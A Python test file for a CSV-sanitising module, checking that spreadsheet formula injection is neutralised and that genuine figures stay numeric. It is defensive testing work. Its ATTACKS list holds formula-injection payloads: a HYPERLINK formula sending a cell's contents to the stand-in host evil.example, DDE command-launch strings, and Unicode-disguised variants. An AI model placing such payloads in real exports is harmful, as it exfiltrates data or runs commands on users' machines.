"""Nothing that people wrote becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from base.csv_safe import Figure, cell, table

ATTACKS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "-5",
    "\u202e=1", "\u00a0=1+1", "\u3000=1", "\x85=1",
)  # fmt: skip
BEGINS = tuple("=+-@＝＋－＠\t\r\n")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("words", ATTACKS)
def test_a_formula_becomes_text(words: str) -> None:
    shown = cell(words)
    assert shown.startswith("'")
    ((_,), (kept,)) = read(table(["name"], [[words]]))
    assert kept == shown


@given(st.text())
def test_whatever_is_written_is_one_cell_of_one_line_that_begins_with_no_formula(words: str) -> None:
    rows = read(table(["a", "b"], [[words, "x"]]))
    assert len(rows) == 2 and len(rows[1]) == 2 and rows[1][1] == "x"
    assert not rows[1][0].lstrip(" ").startswith(BEGINS)
    assert rows[1][0].isprintable()


def test_ordinary_words_stay_as_they_are() -> None:
    for words in ("Ramesh Kumar", "रमेश कुमार", "A-17", "a,b", 'say "hi"', "1+1", "", "x=y"):
        assert read(table(["a"], [[words]]))[1:] == ([[words]] if words else [[]]) or cell(words) == words


def test_figures_of_ours_stay_numbers_and_nothing_else_is_a_figure() -> None:
    assert read(table(["a", "b"], [[Figure("-12.50"), 3]]))[1] == ["-12.50", "3"]
    for words in ("=1", "-", "1e5", "-1+1", "", " 1", "१"):
        with pytest.raises(ValueError, match="a figure has digits"):
            Figure(words)
